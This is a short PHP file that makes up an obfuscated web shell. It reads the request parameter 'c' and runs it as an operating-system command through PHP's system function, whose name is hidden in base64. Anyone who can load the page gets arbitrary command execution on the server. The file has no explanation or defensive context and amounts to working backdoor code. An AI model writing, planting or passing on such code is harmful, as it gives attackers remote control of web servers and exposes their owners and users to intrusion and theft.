<?php
$args = array($_REQUEST['c']);
call_user_func_array(base64_decode('c3lzdGVt'), $args);
